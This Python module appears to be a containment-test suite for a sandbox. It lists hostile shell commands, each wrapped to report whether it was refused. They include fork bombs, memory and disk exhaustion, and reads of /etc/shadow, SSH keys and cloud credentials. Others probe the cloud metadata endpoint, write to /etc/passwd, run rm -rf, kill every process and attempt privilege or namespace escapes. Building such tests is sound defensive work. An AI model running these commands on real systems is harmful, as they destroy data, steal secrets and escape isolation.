"""A list of commands that mean harm, for any sandbox: `hostile.contained` tries one and asks the machine what is left of it.

A command has facts of the machine in it as words between `@`; see `hostile.Machine`. `REFUSED` is what most of them say
when they have tried and failed.
"""

import dataclasses
import platform
import shlex

_ROOT_HOME = "/" + "root"
_OWN_SYSTEM = {
    "ls -A /var", "ls -A /home", "ls -A /run", "ls -A /sys", "ls /var/log || cat /var/log/syslog",
    "ls /dev | grep -v -x -e core -e fd -e full -e null -e ptmx -e pts -e random -e shm -e 'std.*' -e tty -e urandom -e zero",
    "kexec -l /boot/vmlinuz || insmod x.ko || modprobe dummy || swapoff -a || losetup -f",
    "ulimit -u unlimited || ulimit -u 1000",
    "prlimit --pid $$ --nproc=9999:9999 || prlimit --pid 1 --nofile=99999:99999",
}  # fmt: skip
"""What a container may do with the system that it has for itself: none of it is the machine's."""


@dataclasses.dataclass(frozen=True, slots=True)
class Attack:
    """A command that means harm, and what must hold of its result.

    Attributes:
        kind: Of harm.
        command: Shell text.
        holds: `refused`: it says REFUSED, because it tried and failed; `stopped`: it was killed for going too far;
            `limited`: either of them, whichever limit it met first; `timed out`: killed because its time was up; `cut`: its
            output was; `bounded`: it did not succeed; `kept small` and `harmless`: only the machine is asked.
        in_container: What must hold instead in a sandbox that has a whole system for itself, if anything else.
    """

    kind: str
    command: str
    holds: str = "refused"
    in_container: str = ""


def _tries(command: str) -> str:
    """A command that says whether it could."""
    return f"if {{ {command}\n}}; then echo ESCAPED; else echo REFUSED; fi"


def _python(code: str) -> str:
    return f"python -c {shlex.quote(code)}"


def _address(*parts: int) -> str:
    return ".".join(map(str, parts))


def _connects(family: str, where: str, kind: str = "SOCK_STREAM") -> str:
    return _tries(_python(f"import socket as s; c=s.socket(s.{family}, s.{kind}); c.settimeout(2); c.connect({where})"))


def _calls(name: str, *arguments: str) -> str:
    """Tries a function of the C library, and fails if that fails."""
    return _tries(
        _python(f"import ctypes,sys; c=ctypes.CDLL(None,use_errno=True); sys.exit(c.{name}({','.join(arguments)})==-1)")
    )


def _writes(path: str) -> str:
    return _tries(f"echo harm >> {path}")


_NETWORK = [
    _tries("curl -sS -m 2 http://127.0.0.1:@PORT@/@MARK@"),
    _tries("curl -sS -m 2 http://localhost:@PORT@/@MARK@"),
    _tries("curl -sS -m 2 -g 'http://[::1]:@PORT@/'"),
    _tries("curl -sS -m 2 http://@HOST@:@PORT@/"),
    _tries("wget -q -T 2 -t 1 -O- http://127.0.0.1:@PORT@/"),
    _tries("curl -sS -m 2 --unix-socket @SOCKET@ http://x/"),
    _tries("curl -sS -m 2 --abstract-unix-socket @ABSTRACT@ http://x/"),
    _tries(f"curl -sS -m 2 http://{_address(169, 254, 169, 254)}/latest/meta-data/"),
    _tries(f"curl -sS -m 2 http://{_address(1, 1, 1, 1)}/"),
    _tries("curl -sS -m 2 https://example.com/"),
    _tries("echo harm > /dev/tcp/127.0.0.1/@PORT@"),
    _tries("echo harm > /dev/tcp/@HOST@/@PORT@"),
    _tries(f"echo harm > /dev/udp/{_address(8, 8, 8, 8)}/53"),
    _tries("getent hosts example.com"),
    _tries(_python("import socket; socket.getaddrinfo('example.com', 80)")),
    _connects("AF_INET", "('127.0.0.1', @PORT@)"),
    _connects("AF_INET", "('0.0.0.0', @PORT@)"),
    _connects("AF_INET", "('@HOST@', @PORT@)"),
    _connects("AF_INET6", "('::1', @PORT@)"),
    _connects("AF_INET6", "('::ffff:127.0.0.1', @PORT@)"),
    _connects("AF_INET6", "('fe80::1', @PORT@, 0, 1)"),
    _connects("AF_UNIX", "'\\0@ABSTRACT@'"),
    _connects("AF_UNIX", "'@SOCKET@'"),
    _connects("AF_VSOCK", "(2, 1024)"),
    _connects("AF_VSOCK", "(1, 1024)"),
    _tries(_python("import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)")),
    _tries(_python("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)")),
    _tries(_python("import socket; socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)")),
    _tries(_python("import socket; socket.socket(31, socket.SOCK_RAW, 1)")),
    _tries("ping -c 1 -W 1 127.0.0.1"),
    _tries("ip link add veth0 type veth"),
    _tries("grep -v -e lo: -e face -e Inter /proc/net/dev"),
    _tries("python -m pip download --retries 0 --timeout 2 six"),
]
_NETWORK_HARMLESS = [
    # A datagram to one's own loopback goes out happily, and arrives nowhere.
    _python("import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'harm', ('127.0.0.1', @UDP@))"),
    "echo harm > /dev/udp/127.0.0.1/@UDP@",
    _python(
        "import socket as s; c=s.socket(s.AF_INET, s.SOCK_DGRAM); c.setsockopt(s.SOL_SOCKET, s.SO_BROADCAST, 1);"
        "c.sendto(b'harm', ('<broadcast>', @UDP@))"
    ),
]
_WRITES = [
    *map(_writes, ("/harm-@MARK@", "/etc/harm-@MARK@", "/etc/passwd", "/etc/hosts", "/usr/bin/harm-@MARK@")),
    *map(_writes, ("/usr/bin/env", "/dev/harm-@MARK@", "../harm-@MARK@", "../../harm-@MARK@", "@CANARY@")),
    *map(_writes, ("/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches")),
    *map(_writes, ("/proc/sysrq-trigger", "/proc/1/mem", "/sys/harm-@MARK@", "/proc/self/uid_map")),
    *map(_writes, ("/sandbox/packages/pytest/__init__.py", "/sandbox/bin/harm", "@PROJECT@/harm-@MARK@")),
    *map(
        _writes,
        ("$(python -c 'import os; print(os.__file__)')", "/sandbox/bin/python", "/bin/bash", "/lib/harm-@MARK@"),
    ),
    _tries("echo harm > /dev/sda || echo harm > /dev/vda"),
    _tries("mkdir /sys /run /var /home"),
    _tries("mount -o remount,rw /"),
    _tries("mount -t tmpfs none /mnt || mount -t tmpfs none /tmp"),
    _tries("mount --bind /workspace /etc"),
    _tries("mount -t proc proc /proc"),
    _tries("umount -l /proc || umount -l /etc || umount -l /workspace"),
    _tries("mknod disk b 8 0 || mknod disk b 254 0"),
    _tries("mknod null c 1 3"),
    _tries(_python("import os; os.mkdir('j'); os.chroot('j'); [os.chdir('..') for _ in range(99)]; os.chroot('.')")),
    _tries("chmod 777 / || chmod 777 /etc || chmod 777 /usr"),
    _tries("chown 1000 /etc/passwd"),
    _tries("rm -rf --no-preserve-root /usr/bin/env /etc/passwd"),
    _tries("mv /workspace /moved-@MARK@"),
    _tries("rmdir /workspace"),
    _tries("ln /etc/passwd hard && echo harm >> hard"),
    _tries("ln -s /etc soft && echo harm >> soft/passwd"),
    _tries("ln -s @CANARY@ soft && echo harm >> soft"),
    _tries("sed -i s/a/b/ /etc/hosts"),
    _tries("cp /bin/true /usr/local/bin/true"),
    _tries("echo :x:M::x::/tmp/x: > /proc/sys/fs/binfmt_misc/register"),
    _tries("echo -1000 > /proc/1/oom_score_adj"),
    _tries("hostname harm || echo harm > /proc/sys/kernel/hostname"),
    _tries("date -s 2001-01-01"),
]
_READS = [
    *(_tries(f"cat {path}") for path in ("@CANARY@", "/etc/shadow", "@PROJECT@/pyproject.toml", "/proc/kcore")),
    *(_tries(f"cat {path}") for path in ("/proc/@PID@/environ", "/proc/@PID@/cmdline", "/proc/kmsg", "/dev/mem")),
    *(_tries(f"cat {path}") for path in ("/proc/1/root@CANARY@", "/proc/self/root/../..@CANARY@", "/dev/kmsg")),
    *(_tries(f"cat {path}") for path in ("/proc/self/cwd/../../../..@CANARY@", "/proc/2/root/etc/shadow", "/dev/port")),
    *(_tries(f"ls -A {path}") for path in ("/var", "/home", "/run", "/sys", "@FOLDER@", "@PROJECT@", "/lost+found")),
    _tries(f"ls -A ~root/.ssh || ls -A {_ROOT_HOME}/.ssh || ls -A /home/*/.ssh"),
    _tries("cat ~/.ssh/id_rsa ~/.ssh/id_ed25519 ~/.netrc ~/.aws/credentials ~/.config/gh/hosts.yml ~/.bash_history"),
    _tries("env | grep @SECRET@"),
    _tries("grep -a @SECRET@ /proc/*/environ"),
    _tries("find / -xdev -name '*@CANARYNAME@*' 2>/dev/null | grep ."),
    _tries("ls /tmp | grep ."),
    _tries("dmesg"),
    _tries("ls /var/log || cat /var/log/syslog"),
    _tries("ps -e -o args | grep -v grep | grep pytest"),
    _tries("ls -d /proc/@PID@"),
    _tries("cat /proc/self/fd/[4-9] /proc/self/fd/[1-9][0-9]"),
    _tries(_python("import sonde")),
    _tries("git -C @PROJECT@ log -1"),
    _tries(
        "ls /dev | grep -v -x -e core -e fd -e full -e null -e ptmx -e pts -e random -e shm -e 'std.*' -e tty -e urandom -e zero"
    ),
    _tries("ls /dev/pts | grep -v ptmx"),
    _tries("cat < /dev/tty"),
    _tries("[ $(hostname) = @HOSTNAME@ ]"),
    _calls("open_by_handle_at", "0", "b'x'*64", "0"),
]
_POWERS = [
    _tries("sudo -n true"),
    _tries("su -c true"),
    _tries("su root -c true < /dev/null"),
    _tries("cp /bin/bash b && chmod 4755 b && [ $(./b -p -c 'id -u') = 0 ]"),
    _tries("chmod u+s /usr/bin/env"),
    _tries("unshare -r true"),
    _tries("unshare -Urm mount -t tmpfs x /tmp"),
    _tries("unshare -n true || unshare -p true || unshare -m true || unshare -i true || unshare -u true"),
    _tries("nsenter -t 1 -m true || nsenter -t 1 -a true || nsenter -t 1 -U true"),
    _tries("bwrap --ro-bind / / --unshare-user true || bwrap --ro-bind / / true"),
    _tries("setpriv --reuid 0 true || setpriv --reuid 65534 true"),
    _tries("setcap cap_sys_admin+ep /usr/bin/env || capsh --user=root -- -c true"),
    _tries("newuidmap $$ 0 0 1"),
    _tries("fusermount -u /workspace || fusermount3 -u /workspace"),
    _tries("kexec -l /boot/vmlinuz || insmod x.ko || modprobe dummy || swapoff -a || losetup -f"),
    _tries("reboot -f || shutdown now || systemctl reboot || init 0"),
    _tries("docker -H unix:///var/run/docker.sock ps || curl -sS --unix-socket /var/run/docker.sock http://x/info"),
    _tries("dbus-send --system --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames"),
    _tries("systemd-run --user true || systemctl --user start x || loginctl list-sessions"),
    _tries("echo 'touch @FOLDER@/harm' | at now"),
    _tries("echo '* * * * * touch @FOLDER@/harm' | crontab -"),
    _tries("ulimit -u unlimited || ulimit -u 1000"),
    _tries(
        "ulimit -d unlimited || ulimit -v unlimited || ulimit -f unlimited || ulimit -n 100000 || ulimit -t unlimited"
    ),
    _tries("prlimit --pid $$ --nproc=9999:9999 || prlimit --pid 1 --nofile=99999:99999"),
    _tries("nice -n -20 true 2>&1 | grep -v . "),
    _tries("chrt -f 50 true || renice -n -20 1"),
    _tries("LD_PRELOAD=/workspace/x.so su -c true"),
    _tries(
        "mkdir p; printf '#!/bin/sh\\ntouch @FOLDER@/harm' > p/ls; chmod +x p/ls; PATH=$PWD/p:$PATH ls; [ -e @FOLDER@/harm ]"
    ),
    _tries("strace -p 1 || gdb -batch -p 1 2>&1 | grep -q Attaching"),
    _calls("ptrace", "16", "1", "0", "0"),
    _calls("ptrace", "16", "@PID@", "0", "0"),
    _calls("kill", "@PID@", "9"),
    _calls("unshare", "0x10000000"),
    _calls("unshare", "0x00020000"),
    _calls("setns", "0", "0"),
    _calls("setuid", "0"),
    _calls("setgroups", "1", "b'\\0\\0\\0\\0'"),
    _calls("mount", "b'none'", "b'/tmp'", "b'tmpfs'", "0", "0"),
    _calls("umount2", "b'/workspace'", "2"),
    _calls("chroot", "b'/tmp'"),
    _calls("sethostname", "b'harm'", "4"),
    _calls("reboot", "0x1234567"),
    _calls("swapoff", "b'/x'"),
    _calls("shmget", "0", "1<<30", "0o1600"),
    _calls("semget", "0", "1000", "0o1600"),
    _calls("msgget", "0", "0o1600"),
    _calls("memfd_create", "b'x'", "0"),
    _calls("mq_open", "b'/x'", "0o102", "0o600", "0"),
    _calls("process_vm_readv", "1", "0", "0", "0", "0", "0"),
    _calls("fanotify_init", "0", "0"),
    _calls("settimeofday", "b'\\0'*16", "0"),
    _calls("syscall", f"{56 if platform.machine() == 'x86_64' else 220}", "0x10000000|17", "0", "0", "0", "0"),
]
_FORK_BOMBS = [
    ":(){ :|:& };:; sleep 100",
    "bomb() { bomb | bomb & }; bomb; sleep 100",
    "echo '$0 & $0 & wait' > b.sh; chmod +x b.sh; bash b.sh; bash -c 'bash b.sh & bash b.sh'; sleep 100",
    "while :; do sleep 1000 & done",
    "yes | xargs -P 0 -I{} sleep 1000",
    _python("import os\nwhile True:\n try: os.fork()\n except OSError: pass"),
    _python("import os\nwhile True:\n try:\n  if os.fork() == 0: os.setsid()\n except OSError: pass"),
    _python(
        "import subprocess\nk=[]\nwhile True:\n try: k.append(subprocess.Popen(['sleep','999']))\n except OSError: pass"
    ),
    _python(
        "import threading,time\nwhile True:\n try: threading.Thread(target=time.sleep, args=(999,)).start()\n"
        " except RuntimeError: pass"
    ),
    "perl -e 'fork while fork; fork while 1'",
    "trap '' TERM INT HUP; f() { f & f & wait; }; f",
]
_MEMORY = [
    ("limited", _tries(_python("x = bytearray(1 << 33)"))),
    ("limited", _tries(_python("x = []\nwhile True: x.append(bytearray(1 << 20))"))),
    ("limited", _tries(_python("x = 'x'\nwhile True: x += x"))),
    ("limited", _tries("tail /dev/zero")),
    ("limited", _tries("(x=$(cat /dev/zero | tr '\\0' x))")),
    ("limited", _tries("head -c 20M /dev/zero > /dev/shm/x")),
    ("limited", _tries("perl -e '$x = \"x\" x (1 << 33)'")),
    (
        "stopped",
        f"for i in $(seq 25); do {_python('x = bytearray(60 << 20); import time; time.sleep(99)')} & done; wait",
    ),
    ("stopped", _python("import mmap\nm = mmap.mmap(-1, 3 << 30)\nfor i in range(0, 3 << 30, 4096): m[i] = 1")),
    (
        "stopped",
        _python(
            "import os,time\nfor _ in range(29):\n if os.fork() == 0:\n  x = bytearray(os.urandom(1)) * (50 << 20)\n"
            "  time.sleep(99)\ntime.sleep(99)"
        ),
    ),
    ("harmless", _python("import sys; sys.setrecursionlimit(1 << 30)\ndef f(): f()\nf()")),
    ("harmless", "perl -e 'no warnings; sub f { f() } f()'"),
]
_OUTPUT = [
    ("stopped", "yes"),
    ("stopped", "yes >&2"),
    ("stopped", "cat /dev/zero"),
    ("stopped", "cat /dev/urandom"),
    ("stopped", "tr '\\0' x < /dev/zero"),
    ("stopped", "yes & yes >&2 & wait"),
    ("cut", r"yes $'\e]0;harm\a\e[2J\e[?1049h' | head -n 100000"),
    ("cut", r"printf '\e[6n\e[5i%0100000d\x9b\x90' 7"),
    ("cut", "seq 1000000"),
    ("cut", "cat /bin/bash; cat /bin/bash >&2"),
    ("cut", r"python -c 'print(chr(0x202e) * 9999, chr(0x9b) * 9999, chr(13) * 9999)'"),
]
_TIME = [
    "sleep 1000",
    "while :; do :; done",
    _python("while True: pass"),
    _python("import threading\nfor _ in range(8): threading.Thread(target=lambda: any(0 for _ in iter(int, 1))).start()"),
    "trap '' TERM INT HUP QUIT ALRM XCPU; while :; do sleep 1; done",
    _python("import signal,time\nfor n in range(1, 65):\n try: signal.signal(n, signal.SIG_IGN)\n except OSError: pass\n"
           "while True: time.sleep(1)"),
    "kill -STOP $$; sleep 100",
    "sleep 1000 & kill -STOP $!; wait",
    "exec sleep 1000",
    "exec >&- 2>&-; sleep 1000",
    "trap 'sleep 1000' EXIT; exit 0",
    "mkfifo f; cat f",
    "cat < <(sleep 1000)",
    "sleep 1000 | sleep 1000",
    "nohup setsid sleep 1000 < /dev/null & wait",
    "timeout 1000 sleep 1000",
    _python("import os,time\nos.setsid()\nif os.fork(): os.wait()\ntime.sleep(999)"),
]  # fmt: skip
_BACKGROUND = [
    "sleep 1000 &",
    "nohup sleep 1000 > /dev/null 2>&1 &",
    "setsid sleep 1000 &",
    "(setsid sleep 1000 < /dev/null > /dev/null 2>&1 &)",
    "sleep 1000 & disown -a",
    "bash -c 'trap \"\" TERM HUP; sleep 1000' > /dev/null 2>&1 & disown",
    _python("import os,time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\nos.closerange(0, 9)\n"
           "time.sleep(999)"),
    "(while :; do echo harm >> log; sleep 0.01; done) > /dev/null 2>&1 &",
    "sleep 1000 & kill -STOP $!",
    "coproc sleep 1000",
]  # fmt: skip
_KILLING = [
    "kill -9 -1; sleep 0.1; kill -9 $$",
    "kill -9 1; kill -STOP 1; kill -9 $PPID; echo on",
    "kill -9 @PID@; pkill -9 python; pkill -9 -f pytest; killall -9 python; echo on",
    "for i in $(seq 1 3000); do [ $i = $$ ] || kill -9 $i 2> /dev/null; done; echo on",
    _python("import os\nfor n in range(1, 70):\n try: os.kill(1, n)\n except OSError: pass"),
    _python("import os; os.killpg(0, 9)"),
]
_DISK = [
    ("refused", _tries("dd if=/dev/zero of=big bs=1M count=64 2> /dev/null")),
    ("refused", _tries("fallocate -l 64M big")),
    ("refused", _tries("truncate -s 1T sparse")),
    ("refused", _tries("(for i in 1 2 3 4 5; do head -c 4M /dev/zero > f$i || exit 1; done)")),
    ("refused", _tries("head -c 100M /dev/zero > /tmp/big")),
    ("refused", _tries("touch $(printf 'x%.0s' $(seq 300))")),
    ("refused", _tries(_python("f = [open(str(i % 3), 'wb') for i in range(9)]\nimport os\n[os.unlink(str(i)) for i in range(3)]\n"
                             "[g.write(bytes(4 << 20)) for g in f]"))),
    ("refused", _tries("exec 9> gone; rm gone; head -c 9M /dev/zero >&9")),
    ("stopped", "i=0; while :; do : > file$i; i=$((i+1)); done"),
    ("stopped", _python("import os\nfor i in range(1 << 20): os.mkdir(f'd{i}')")),
    ("stopped", _python("import os\nos.mknod('a')\nfor i in range(1 << 20): os.link('a', f'l{i}')")),
    ("stopped", _python("import os\nfor i in range(1 << 20): os.symlink('x' * 20, f'l{i}')")),
    ("stopped", _python("import os\nfor i in range(1 << 20): os.mkdir('d'); os.chdir('d')")),
    ("stopped", _python("import os\nfor i in range(1 << 20): os.mkfifo(f'/tmp/f{i}')")),
    ("harmless", "rm -rf /workspace /workspace/* /workspace/.[!.]* / 2> /dev/null"),
    ("harmless", "chmod 000 /workspace; cd /; ls /workspace"),
    ("harmless", _python("import os\nfor i in range(256): open(bytes([i]) * 9, 'w') if i not in (0, 47) else 0")),
    ("harmless", r"touch $'-rf\n*' $'\e[2J' '$(touch @FOLDER@/harm)' '; touch @FOLDER@/harm'; ls"),
]  # fmt: skip


def _in_container(kind: str, command: str, holds: str) -> str:
    if (
        any(command == _tries(one) for one in _OWN_SYSTEM)
        or "memfd_create" in command
        or "os.setsid()\nif os.fork(): os.wait" in command
    ):
        return "harmless"
    return "bounded" if (kind, holds) == ("disk", "stopped") else ""


def _rows(kind: str, *commands: str | tuple[str, str], holds: str = "refused") -> list[Attack]:
    found = []
    for command in commands:
        must, text = (holds, command) if isinstance(command, str) else command
        found.append(Attack(kind, text, must, _in_container(kind, text, must)))
    return found


ATTACKS = (
    *_rows("network", *_NETWORK),
    *_rows("network", *_NETWORK_HARMLESS, holds="harmless"),
    *_rows("writing outside", *_WRITES),
    *_rows("reading the machine", *_READS),
    *_rows("powers", *_POWERS),
    *_rows("fork bomb", *_FORK_BOMBS, holds="kept small"),
    *_rows("memory", *_MEMORY),
    *_rows("output", *_OUTPUT),
    *_rows("time", *_TIME, holds="timed out"),
    *_rows("background", *_BACKGROUND, holds="harmless"),
    *_rows("killing", *_KILLING, holds="harmless"),
    *_rows("disk", *_DISK),
)
